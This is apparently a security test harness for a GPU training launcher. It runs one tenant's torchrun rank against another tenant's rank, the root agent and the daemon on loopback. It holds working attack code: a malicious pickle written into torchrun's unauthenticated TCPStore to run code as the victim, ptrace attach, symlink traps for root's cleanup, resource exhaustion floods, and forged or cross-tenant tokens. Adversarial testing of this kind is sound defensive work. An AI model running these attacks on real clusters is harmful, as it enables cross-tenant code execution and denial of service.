"""Owner B's rank attacks owner A's launch and the agent, from inside (issue 37), as
root, with real torchrun on this machine (loopback, CPU ranks, users and a tmpfs made
for the run and removed after):

  .venv/bin/python bench/rank_attacks.py [--out bench/rank_attacks.json]

The process running this script stands for the agent: a real
:class:`~hetpilot.agents.launcher.Launcher` (run as root, ``run_as = "owner"``, the
default) and the agent's link-probe server on its event loop, with the soft file limit
a systemd service gets (1024). Owner A's rank keeps a file in ``/tmp`` and in
``/dev/shm``, listens on an abstract unix socket and sleeps inside torchrun (whose
c10d store serves A's rendezvous). Owner B's rank then tries, one attempt each:

  * A's ``/tmp`` and ``/dev/shm`` files (made with Python's default modes);
  * ptrace A's rank (PTRACE_ATTACH), signal it (``kill -0``);
  * A's abstract unix socket;
  * A's torchrun store (its port read from A's public command line): join it as a
    client, write a key and read the number of keys (TCPStore has no authentication);
    then write a pickle under ``torch.rendezvous.<run id>`` that runs ``id -u`` (torchrun
    loads its rendezvous state from there every few seconds);
  * take every inotify instance she may have, and leave 32 MiB in ``/dev/shm``;
  * leave symlinks in B's own launch directory in place of its trainer token and job
    environment (and a link to a directory in torchrun's log folder) pointing at files
    of root's, for the root agent to follow when it ends the launch and removes the
    directory after retention;
  * open 2000 connections to the agent's probe port and hold them (a root process's
    file descriptors), and bind the whole rendezvous port range 29400-29499, while
    the agent starts A's next launch;
  * fill the agent's state file system (a 16 MiB tmpfs) from B's launch directory
    and hold it, while the agent starts A's next launch there and then stops B's;
  * with B's trainer token (what her rank reads from ``HETPILOT_TOKEN_FILE``) and her
    owner token, against A's job on a live ``hetpilot daemon``: FinishJob, Attach,
    ReportStageTimings, WatchPlans, a token forged from hers, CancelJob, GetJob,
    DrainHost, Register;
  * hold 1500 idle connections (HTTP/2's preface, then nothing) to the daemon's port,
    which ranks reach (their trainers call it), with the daemon's soft file limit at
    1024, and ask the daemon's health meanwhile.

Each attempt is ``held`` (docs/operating.md says it cannot be done: a success is a
breach and the run FAILS) or ``open`` (docs/operating.md says it can, with the
operator's mitigation: the result is reported, not failed). Last line
``RANK ATTACKS OK`` or ``RANK ATTACKS FAILED: <reasons>``.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import pwd
import resource
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "controlplane"))

from helpers import wait_until  # type: ignore[import-not-found]  # noqa: E402
from hetpilot.agents.launcher import Launcher  # noqa: E402
from hetpilot.agents.netprobe import start_probe_server  # noqa: E402
from hetpilot.agents.procs import descendants, proc_stat  # noqa: E402
from hetpilot.v1 import agent_pb2  # noqa: E402
from sandbox import shared_dir, unix_users, why_no_users  # type: ignore[import-not-found]  # noqa: E402

SERVICE_NOFILE = 1024
"""The soft RLIMIT_NOFILE a systemd service gets by default (LimitNOFILE=1024:524288)."""
RDZV_RANGE = range(29400, 29500)
"""The daemon's default rdzv_port_min..rdzv_port_max."""

VICTIM = """
import os, socket, sys, threading, time
tag = sys.argv[1]
for folder in ("/tmp", "/dev/shm"):
    with open(f"{folder}/hp-redteam-{tag}", "w") as fh:  # Python's default mode: 0666 & ~umask
        fh.write("A's secret in " + folder)
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind("\\0hp-redteam-" + tag)
srv.listen(8)
def serve():
    while True:
        conn, _ = srv.accept()
        conn.sendall(b"A's abstract-socket secret")
        conn.close()
threading.Thread(target=serve, daemon=True).start()
print("ready", flush=True)
time.sleep(600)
"""

ATTACK = """
import ctypes, json, os, socket, sys, time
t = json.loads(sys.argv[1])
out = {}
def attempt(name, fn):
    try:
        out[name] = "DONE: " + str(fn())
    except Exception as exc:
        out[name] = "denied (%s: %s)" % (type(exc).__name__, str(exc)[:80])
def read(path):
    with open(path) as fh:
        return "read %r" % fh.read()[:40]
attempt("A's /tmp file", lambda: read(t["tmp"]))
attempt("A's /dev/shm file", lambda: read(t["shm"]))
def ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, t["rank"], None, None) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.ptrace(17, t["rank"], None, None)  # PTRACE_DETACH
    return "attached"
attempt("ptrace A's rank", ptrace)
attempt("signal A's rank (kill -0)", lambda: os.kill(t["rank"], 0))
def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect("\\0" + t["abstract"])
        return s.recv(100)
attempt("A's abstract unix socket", abstract)
def store():
    from datetime import timedelta
    argv = open("/proc/%d/cmdline" % t["torchrun"], "rb").read().split(b"\\0")
    endpoint = argv[argv.index(b"--rdzv-endpoint") + 1].decode()
    host, port = endpoint.rsplit(":", 1)
    from torch.distributed import TCPStore
    s = TCPStore(host, int(port), is_master=False, wait_for_workers=False,
                 timeout=timedelta(seconds=10))
    s.set("hp-redteam", "B was here")
    return "joined %s, wrote a key, %d keys in it" % (endpoint, s.num_keys())
attempt("A's torchrun store (c10d rendezvous)", store)
def takeover():
    # torchrun keeps its rendezvous state as a pickle in the store and loads it again
    # every few seconds (its keep-alive): whoever writes the key runs code as A
    import base64, pickle
    from datetime import timedelta
    from torch.distributed import TCPStore
    argv = open("/proc/%d/cmdline" % t["torchrun"], "rb").read().split(b"\\0")
    endpoint = argv[argv.index(b"--rdzv-endpoint") + 1].decode()
    run_id = argv[argv.index(b"--rdzv-id") + 1].decode()
    host, port = endpoint.rsplit(":", 1)
    class Payload:
        def __reduce__(self):
            return (os.system, ("id -u > %s" % t["pwned"],))
    s = TCPStore(host, int(port), is_master=False, wait_for_workers=False,
                 timeout=timedelta(seconds=10))
    s.set("torch.rendezvous." + run_id, base64.b64encode(pickle.dumps(Payload())))
    return "wrote a pickle into torch.rendezvous.%s" % run_id
attempt("A's rendezvous state (a pickle torchrun loads)", takeover)
def inotify():
    libc = ctypes.CDLL(None, use_errno=True)
    fds = []
    while len(fds) < 100000:
        fd = libc.inotify_init1(0)
        if fd < 0:
            return "%d instances, then %s" % (len(fds), os.strerror(ctypes.get_errno()))
        fds.append(fd)
    return "%d instances" % len(fds)
attempt("take every inotify instance", inotify)
def shm():
    with open(t["shm_left"], "wb") as fh:
        for _ in range(32):
            fh.write(b"x" * (1 << 20))
    return "32 MiB in %s, left behind" % t["shm_left"]
attempt("leave a file in /dev/shm", shm)
# the root agent unlinks these when the launch ends and removes the folder later
for name in ("trainer.token", "env.json"):
    os.unlink(name)
    os.symlink(t["canary_file"], name)
os.symlink(t["canary_dir"], "ranks/a-link-to-root-s-folder")
os.symlink(t["canary_dir"], "a-link-to-root-s-folder")
out["symlinks left"] = "DONE"
print("ATTACK " + json.dumps(out), flush=True)
"""

HOLD = """
import json, os, resource, socket, sys, time
probe_port, ready = int(sys.argv[1]), sys.argv[2]
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # anyone may raise it to the hard one
conns, ports = [], []
for _ in range(2000):
    try:
        conns.append(socket.create_connection(("127.0.0.1", probe_port), timeout=2))
    except OSError:
        break
open_ = 0
time.sleep(0.5)
for c in conns:  # still held by the agent, or closed by it?
    c.setblocking(False)
    try:
        c.recv(1)  # b"": the agent closed it
    except BlockingIOError:
        open_ += 1  # nothing to read: still held open by the agent
    except OSError:
        pass
for port in range(int(sys.argv[3]), int(sys.argv[4])):
    s = socket.socket()
    try:
        s.bind(("0.0.0.0", port))
        s.listen(1)
        ports.append(s)
    except OSError:
        s.close()
print("HOLD " + json.dumps({"connections_made": len(conns), "still_open_after_0.5s": open_,
                            "rdzv_ports_bound": len(ports)}), flush=True)
open(ready, "w").close()
time.sleep(600)
"""

FILL = """
import os, sys, time
n = 0
try:
    with open("fill", "wb") as fh:
        while True:
            fh.write(b"x" * 65536)
            fh.flush()
            n += 65536
except OSError as exc:
    print("FILL %d bytes, then %s" % (n, exc.strerror), flush=True)
time.sleep(600)
"""


def _port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _order(launch_id: str, user: str, code: str, *args: str, port: int = 0) -> Any:
    return agent_pb2.LaunchOrder(launch_id=launch_id, job_id=f"job-{launch_id}", nnodes=1,
                                 devices=["0"], rdzv_host=True,
                                 rdzv_endpoint=f"127.0.0.1:{port or _port()}", unix_user=user,
                                 command=[sys.executable, "-c", code], args=list(args),
                                 trainer_token=f"hpj_{launch_id}_secret")


def _ended(launcher: Launcher, launch_id: str) -> Any:
    launcher.poll()
    state = launcher.get(launch_id)
    return state is not None and not state.running and state


def _line(state: Any, tag: str) -> dict[str, Any]:
    text = state.output.read_bytes().decode(errors="replace")
    found = [x for x in text.splitlines() if f"{tag} " in x]
    if not found:
        raise RuntimeError(f"no {tag} line in the output:\n{text[-2000:]}")
    return dict(json.loads(found[-1].split(f"{tag} ", 1)[1]))


def _stop(launcher: Launcher, launch_id: str) -> Any:
    launcher.stop(launch_id)
    return wait_until(f"{launch_id} to end", lambda: _ended(launcher, launch_id), timeout=60)


@contextlib.contextmanager
def _probe_server() -> Iterator[tuple[int, asyncio.AbstractEventLoop]]:
    """The agent's link-probe server on an event loop of this process (its port)."""
    loop = asyncio.new_event_loop()
    started: list[Any] = []
    ready = threading.Event()

    def run() -> None:
        asyncio.set_event_loop(loop)
        started.append(loop.run_until_complete(start_probe_server("127.0.0.1", 0)))
        ready.set()
        loop.run_forever()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    ready.wait(30)
    try:
        yield started[0].sockets[0].getsockname()[1], loop
    finally:
        loop.call_soon_threadsafe(started[0].close)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)


def _inotify() -> int:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    fd = int(libc.inotify_init1(0))
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return fd


def _fds() -> int:
    return len(os.listdir("/proc/self/fd"))


def attacks(failures: list[str], result: dict[str, Any]) -> None:
    why = why_no_users()
    if why:
        result["skipped"] = why
        return
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(SERVICE_NOFILE, hard), hard))
    try:
        with shared_dir() as base, unix_users(2) as (alice, bob), _probe_server() as (probe, _):
            try:
                _attacks(base, alice, bob, probe, result)
            finally:  # room to end the launches and remove the users (a breach took it)
                resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def _attacks(base: Path, alice: str, bob: str, probe: int, result: dict[str, Any]) -> None:
    canary_dir = base / "root-only"
    canary_dir.mkdir(mode=0o700)
    canary = canary_dir / "secret"
    canary.write_text("root's file\n")
    launcher = Launcher(base / "agent", host="h", daemon="127.0.0.1:1", stop_grace_s=3.0,
                        retention_s=0.0)
    tag = os.urandom(4).hex()
    launcher.start(_order("LA", alice, VICTIM, tag), {})
    a = launcher.get("LA")
    assert a is not None
    wait_until("A's rank", lambda: b"[rank0]:ready" in a.output.read_bytes(), timeout=120)
    tree = descendants({a.pid: a.start_ticks})
    torchrun = next(p for p in tree if (proc_stat(p) or (0, 0))[0] == a.pid)
    rank = next(p for p in tree if b"hp-redteam" in Path(f"/proc/{p}/cmdline").read_bytes()
                and b"rankio" not in Path(f"/proc/{p}/cmdline").read_bytes())
    targets = {"tmp": f"/tmp/hp-redteam-{tag}", "shm": f"/dev/shm/hp-redteam-{tag}",
               "rank": rank, "torchrun": torchrun, "abstract": f"hp-redteam-{tag}",
               "canary_file": str(canary), "canary_dir": str(canary_dir),
               "pwned": f"/tmp/hp-redteam-pwned-{tag}", "shm_left": f"/dev/shm/hp-redteam-B-{tag}"}
    try:
        launcher.start(_order("LB", bob, ATTACK, json.dumps(targets)), {})
        b = wait_until("B's attack", lambda: _ended(launcher, "LB"), timeout=180)
        seen = result["from B's rank"] = _line(b, "ATTACK")
        pwned = Path(targets["pwned"])
        with contextlib.suppress(AssertionError):  # torchrun's keep-alive: every 5 s
            wait_until("A's torchrun to load B's pickle", pwned.exists, timeout=30)
        seen["code run as A through her rendezvous store"] = (
            f"DONE: ran as uid {pwned.read_text().strip()} (A is uid "
            f"{pwd.getpwnam(alice).pw_uid})" if pwned.exists() else "not run")
        with contextlib.suppress(AssertionError):
            wait_until("A's launch", lambda: _ended(launcher, "LA"), timeout=30)
        seen["A's launch after B wrote into her store"] = (
            "running" if a.running else
            f"ended, exit {a.exit_code}: " + ("the rendezvous state is corrupt" if
                                              b"rendezvous state is corrupt" in
                                              a.output.read_bytes() else a.reason[-120:]))
        # the agent ships B's output, the daemon acknowledges it: retention 0 removes it
        launcher.acked([("LB", False)], launcher.chunks())
        launcher.clean(force=True)
        left = Path(targets["shm_left"])
        seen["B's /dev/shm file after her launch ended"] = (
            f"still there ({left.stat().st_size >> 20} MiB, uid {left.stat().st_uid}, "
            f"mode {stat.S_IMODE(left.stat().st_mode):o})" if left.exists() else "gone")
        with contextlib.suppress(OSError):
            fd = _inotify()
            os.close(fd)
            seen["the agent makes an inotify instance after that"] = "ok"
        seen.setdefault("the agent makes an inotify instance after that", "FAILED")
        seen["root's files after the agent removed B's folder"] = (
            "intact" if canary.read_text() == "root's file\n" and canary_dir.is_dir()
            else "DAMAGED")
        seen["B's folder after retention"] = (
            "removed" if not (launcher.work / "LB").exists() else "still there")

        # B holds the agent's probe port and the rendezvous range; A's next launch
        ready = launcher.work / "LB2" / "held"  # B's own folder: she may write there
        before = _fds()
        launcher.start(_order("LB2", bob, HOLD, str(probe), str(ready),
                                    str(RDZV_RANGE.start), str(RDZV_RANGE.stop)), {})
        b2 = launcher.get("LB2")
        wait_until("B to hold", lambda: ready.exists() or _ended(launcher, "LB2"), timeout=120)
        held = result["B holds the probe port and the rdzv range"] = {}
        held.update(_line(b2, "HOLD"))
        held["agent fds before / while B holds"] = f"{before} / {_fds()}"
        try:  # what the agent's next open of a file meets
            with open(os.devnull):
                held["the agent opens a file"] = "ok"
        except OSError as exc:
            held["the agent opens a file"] = f"FAILED ({exc.strerror})"
        started = launcher.start(_order("LA2", alice, "print('A2 ran')"), {})
        a2 = launcher.get("LA2")
        if a2 is not None and started:
            a2 = wait_until("A's next launch", lambda: _ended(launcher, "LA2"), timeout=120)
        held["A's next launch (free port)"] = (
            f"exit {a2.exit_code}: {a2.reason[:160]}" if a2 is not None else "not started")
        busy = launcher.start(_order("LA3", alice, "print('A3')", port=RDZV_RANGE.start), {})
        held["A's next launch on rdzv port 29400"] = (
            "started" if busy else "refused: " + "; ".join(r[3] for r in launcher.refusals()
                                                          if r[0] == "LA3"))
        _stop(launcher, "LB2")
        _stop(launcher, "LA")
    finally:
        for state in launcher.running():  # a part that broke left them: end them first
            launcher.stop(state.launch_id)
        with contextlib.suppress(AssertionError):
            wait_until("the launches to end", lambda: not (launcher.poll() or
                                                          launcher.running()), timeout=30)
        for path in (f"/tmp/hp-redteam-{tag}", f"/dev/shm/hp-redteam-{tag}", targets["pwned"],
                     targets["shm_left"]):
            with contextlib.suppress(OSError):
                os.unlink(path)


def disk(failures: list[str], out: dict[str, Any]) -> None:
    why = why_no_users()
    if why:
        out["skipped"] = why
        return
    with tempfile.TemporaryDirectory() as tmp, unix_users(2) as (alice, bob):
        os.chmod(tmp, 0o711)
        point = Path(tmp) / "disk"
        point.mkdir()
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m,mode=0711", "tmpfs",
                        str(point)], check=True)
        try:
            launcher = Launcher(point / "agent", host="h", daemon="127.0.0.1:1",
                                stop_grace_s=3.0)
            launcher.start(_order("LB", bob, FILL), {})
            b = launcher.get("LB")
            assert b is not None
            filled = launcher.work / "LB" / "fill"

            def full() -> bool:
                fs = os.statvfs(point)
                return filled.exists() and fs.f_bavail * fs.f_frsize < 65536

            wait_until("B to fill the disk", lambda: full() or _ended(launcher, "LB"),
                       timeout=120)
            out["B's file in her launch folder"] = (f"{filled.stat().st_size} bytes, the file "
                                                    "system full")
            launcher.start(_order("LA", alice, "print('A ran')"), {})
            a = wait_until("A's launch", lambda: _ended(launcher, "LA"), timeout=120)
            out["A's launch while B holds the disk"] = f"exit {a.exit_code}: {a.reason[:200]}"
            try:  # the stop order (a cancel) while the disk is still full
                launcher.stop("LB")
                ended = wait_until("B's launch to end", lambda: _ended(launcher, "LB"),
                                   timeout=60)
                out["B's launch stopped while the disk is full"] = \
                    f"ended (exit {ended.exit_code})"
            except Exception as exc:
                out["B's launch stopped while the disk is full"] = \
                    f"FAILED: {type(exc).__name__}: {exc}"
                for pid in descendants({b.pid: b.start_ticks}):  # ours: this run made them
                    with contextlib.suppress(OSError):
                        os.kill(pid, 9)
        finally:
            subprocess.run(["umount", "-l", str(point)], check=False)


def tokens(failures: list[str], out: dict[str, Any]) -> None:
    """B's trainer token (what her rank reads from ``HETPILOT_TOKEN_FILE``) and her owner
    token against A's job on a live daemon (a ``hetpilot daemon`` process on loopback)."""
    import grpc
    from hetpilot.v1 import (
        agent_pb2_grpc,
        cluster_pb2,
        cluster_pb2_grpc,
        job_pb2,
        job_pb2_grpc,
        trainer_pb2,
        trainer_pb2_grpc,
    )

    from hetpilot.channel import metadata

    sys.path.insert(0, str(ROOT / "bench"))
    from _daemon import write_config  # type: ignore[import-not-found]

    cluster, owners = "rt-cluster-token", {"alice": "rt-alice-token", "bob": "rt-bob-token"}
    with tempfile.TemporaryDirectory() as tmp:
        port = _port()
        config = write_config(Path(tmp) / "daemon.toml", cluster_token=cluster,
                              owner_tokens=owners)
        env = {k: v for k, v in os.environ.items() if not k.startswith("HETPILOT_")}
        ends = Path(tmp) / "state" / "endpoints.json"
        with open(Path(tmp) / "daemon.log", "wb") as log:
            daemon = subprocess.Popen(
                [sys.executable, "-m", "hetpilot", "daemon", "--listen", f"127.0.0.1:{port}",
                 "--state-dir", str(Path(tmp) / "state"), "--config", str(config),
                 "--metrics-listen", ""], stdout=subprocess.DEVNULL, stderr=log, env=env)
        try:
            wait_until("the daemon", ends.exists, timeout=60)
            channel = grpc.insecure_channel(f"127.0.0.1:{port}")
            jobs = job_pb2_grpc.JobServiceStub(channel)
            trainer = trainer_pb2_grpc.TrainerServiceStub(channel)
            nodes = cluster_pb2_grpc.ClusterServiceStub(channel)
            agents = agent_pb2_grpc.AgentServiceStub(channel)

            def submit(owner: str) -> Any:
                entry = job_pb2.JobEntry(command=["sleep", "600"], ranks_per_host=1, hosts=1)
                return jobs.SubmitJob(job_pb2.SubmitJobRequest(
                    name=owner, profile_on_attach=True, global_batch=16, microbatch_size=4,
                    entry=entry), metadata=metadata(owners[owner]), timeout=10)

            a, b = submit("alice"), submit("bob")
            b_trainer, b_owner = metadata(b.trainer_token), metadata(owners["bob"])
            forged = metadata(b.trainer_token.replace(b.job_id, a.job_id))
            FAILED = trainer_pb2.JOB_OUTCOME_FAILED
            tries: dict[str, Any] = {
                "FinishJob(A's job) with B's trainer token": lambda: trainer.FinishJob(
                    trainer_pb2.FinishJobRequest(job_id=a.job_id, outcome=FAILED,
                                                 reason="B"), metadata=b_trainer, timeout=10),
                "Attach(A's job) with B's trainer token": lambda: trainer.Attach(
                    trainer_pb2.AttachRequest(job_id=a.job_id, rank=0, device_id="h:0"),
                    metadata=b_trainer, timeout=10),
                "ReportStageTimings(A's job) with B's trainer token": lambda:
                    trainer.ReportStageTimings(trainer_pb2.StageTimingsReport(
                        job_id=a.job_id, rank=0), metadata=b_trainer, timeout=10),
                "WatchPlans(A's job) with B's trainer token": lambda: next(iter(
                    trainer.WatchPlans(trainer_pb2.TrainerWatchRequest(job_id=a.job_id),
                                       metadata=b_trainer, timeout=10))),
                "FinishJob(A's job) with a token forged from B's": lambda: trainer.FinishJob(
                    trainer_pb2.FinishJobRequest(job_id=a.job_id, outcome=FAILED),
                    metadata=forged, timeout=10),
                "CancelJob(A's job) with B's trainer token": lambda: jobs.CancelJob(
                    job_pb2.CancelJobRequest(job_id=a.job_id), metadata=b_trainer, timeout=10),
                "CancelJob(A's job) with B's owner token": lambda: jobs.CancelJob(
                    job_pb2.CancelJobRequest(job_id=a.job_id), metadata=b_owner, timeout=10),
                "GetJob(A's job) with B's owner token": lambda: jobs.GetJob(
                    job_pb2.GetJobRequest(job_id=a.job_id), metadata=b_owner, timeout=10),
                "DrainHost with B's trainer token": lambda: nodes.DrainHost(
                    cluster_pb2.DrainHostRequest(host="h", reason="B"), metadata=b_trainer,
                    timeout=10),
                "Register a host with B's trainer token": lambda: agents.Register(
                    agent_pb2.RegisterRequest(host="h"), metadata=b_trainer,
                    timeout=10),
            }
            for what, call in tries.items():
                try:
                    call()
                    out[what] = "DONE"
                except grpc.RpcError as exc:
                    out[what] = f"denied ({exc.code().name}: {(exc.details() or '')[:80]})"
            after = jobs.GetJob(job_pb2.GetJobRequest(job_id=a.job_id),
                                metadata=metadata(owners["alice"]), timeout=10)
            out["A's job after them"] = job_pb2.JobState.Name(after.state)
            for what, result in out.items():
                if what != "A's job after them" and not result.startswith("denied"):
                    failures.append(f"tokens: {what}: {result}")
            if after.state in (job_pb2.JOB_STATE_FAILED, job_pb2.JOB_STATE_CANCELLED):
                failures.append("tokens: A's job ended: " + out["A's job after them"])
            channel.close()
        finally:
            daemon.terminate()
            daemon.wait(timeout=30)


DAEMON_FLOOD = """
import socket, sys, time
port, count, ready = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
held = []
for _ in range(count):
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=2)
        c.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")  # HTTP/2's preface, then nothing
        held.append(c)
    except OSError:
        break
open(ready, "w").write(str(len(held)))
time.sleep(600)
"""


def daemon_fds(failures: list[str], out: dict[str, Any]) -> None:
    """A rank reaches the daemon's port (its trainers must): idle connections against
    the daemon's file descriptors. The daemon runs with a soft limit of 1024 here (the
    unit's LimitNOFILE=65536 takes 64 times the connections, from several addresses)."""
    import grpc
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    sys.path.insert(0, str(ROOT / "bench"))
    from _daemon import write_config  # type: ignore[import-not-found]

    def health(port: int) -> str:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            try:
                health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(),
                                                          timeout=5)
                return "SERVING"
            except grpc.RpcError as exc:
                return f"no answer ({exc.code().name})"

    with tempfile.TemporaryDirectory() as tmp:
        port = _port()
        config = write_config(Path(tmp) / "daemon.toml", cluster_token="rt-cluster-token")
        env = {k: v for k, v in os.environ.items() if not k.startswith("HETPILOT_")}
        ends = Path(tmp) / "state" / "endpoints.json"

        def limit() -> None:
            resource.setrlimit(resource.RLIMIT_NOFILE, (SERVICE_NOFILE, SERVICE_NOFILE))

        with open(Path(tmp) / "daemon.log", "wb") as log:
            daemon = subprocess.Popen(
                [sys.executable, "-m", "hetpilot", "daemon", "--listen", f"127.0.0.1:{port}",
                 "--state-dir", str(Path(tmp) / "state"), "--config", str(config),
                 "--metrics-listen", ""], stdout=subprocess.DEVNULL, stderr=log, env=env,
                preexec_fn=limit)
        flood = None
        try:
            wait_until("the daemon", ends.exists, timeout=60)
            out["health before"] = health(port)
            ready = Path(tmp) / "held"
            flood = subprocess.Popen([sys.executable, "-c", DAEMON_FLOOD, str(port), "1500",
                                      str(ready)])
            wait_until("the connections", ready.exists, timeout=120)
            out["connections held"] = ready.read_text()
            out["daemon fds (soft limit 1024)"] = len(os.listdir(f"/proc/{daemon.pid}/fd"))
            out["health while held"] = health(port)
            # grpc closes a socket that has not sent its HTTP/2 settings within the
            # daemon's handshake_timeout_s (10 s): the daemon answers while B still holds hers
            held_at = time.monotonic()
            out["health while still held, after handshake_timeout_s"] = wait_until(
                "the daemon to answer while the connections are held",
                lambda: health(port) == "SERVING" and "SERVING", timeout=60)
            out["seconds until it answered while held"] = round(time.monotonic() - held_at, 1)
            out["flood still running then"] = flood.poll() is None
            flood.kill()
            flood.wait()
            out["health once they close"] = wait_until(
                "the daemon to answer again", lambda: health(port) == "SERVING" and "SERVING",
                timeout=60)
        finally:
            if flood is not None and flood.poll() is None:
                flood.kill()
                flood.wait()
            daemon.terminate()
            daemon.wait(timeout=30)


HELD = {
    "A's /tmp file": "denied", "A's /dev/shm file": "denied", "ptrace A's rank": "denied",
    "signal A's rank (kill -0)": "denied",
    "root's files after the agent removed B's folder": "intact",
    "B's folder after retention": "removed",
    "the agent opens a file": "ok", "A's next launch (free port)": "exit 0",
    "B's launch stopped while the disk is full": "ended",
    "code run as A through her rendezvous store": "not run",
    "the agent makes an inotify instance after that": "ok",
}
"""Attempts docs/operating.md says B cannot make: the result must start so."""


def check(report: dict[str, Any], failures: list[str]) -> None:
    flat: dict[str, str] = {}
    for part in (*report.get("attacks", {}).values(), report.get("disk", {})):
        if isinstance(part, dict):
            flat.update({k: str(v) for k, v in part.items()})
    for name in ("attacks", "disk"):
        if "skipped" in report.get(name, {}):
            failures.append(f"{name} skipped: {report[name]['skipped']}")
    for what, expect in HELD.items():
        if what not in flat:
            failures.append(f"{what}: not tried")
        elif not flat[what].startswith(expect):
            failures.append(f"{what}: {flat[what]}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path)
    parser.add_argument("--only", nargs="+", choices=("attacks", "disk", "tokens", "daemon_fds"),
                        help="run these parts only (a partial run is not a campaign)")
    args = parser.parse_args()
    if os.geteuid() != 0:
        print("rank_attacks: needs root (unix users, switching users, a tmpfs)", file=sys.stderr)
        return 2
    failures: list[str] = []
    report: dict[str, Any] = {}
    parts = (("attacks", attacks), ("disk", disk), ("tokens", tokens), ("daemon_fds", daemon_fds))
    for name, part in parts if not args.only else [p for p in parts if p[0] in args.only]:
        report[name] = {}
        try:
            part(failures, report[name])
        except Exception as exc:  # what it found so far stays
            report[name]["broke"] = f"{type(exc).__name__}: {exc}"
            failures.append(f"{name}: broke: {type(exc).__name__}: {str(exc)[:300]}")
    if not args.only:  # the held attacks are checked on a whole run
        check(report, failures)
    text = json.dumps(report, indent=2)
    print(text)
    if args.out:
        args.out.write_text(text + "\n")
    print("RANK ATTACKS OK" if not failures else "RANK ATTACKS FAILED: " + "; ".join(failures))
    return 1 if failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
